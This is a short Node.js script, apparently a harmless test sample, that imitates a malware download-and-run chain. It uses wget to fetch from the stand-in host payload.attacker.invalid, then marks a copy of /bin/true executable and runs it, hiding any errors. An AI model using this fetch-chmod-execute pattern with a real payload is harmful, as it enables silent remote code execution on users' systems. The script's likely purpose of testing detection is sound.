// Downloads (from a name that nothing answers), makes a file executable and runs it.
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const { tmpdir } = require('node:os');
const { join } = require('node:path');

function attempt(action) {
  try {
    action();
  } catch {
    // Malware does not complain either.
  }
}

const folder = fs.mkdtempSync(join(tmpdir(), 'sample-'));
const program = join(folder, 'update');
attempt(() => execFileSync('wget', ['-q', '-T', '5', '-t', '1', '-O', join(folder, 'part'), 'http://payload.attacker.invalid/update']));
fs.copyFileSync('/bin/true', program);
fs.chmodSync(program, 0o755);
attempt(() => execFileSync(program));
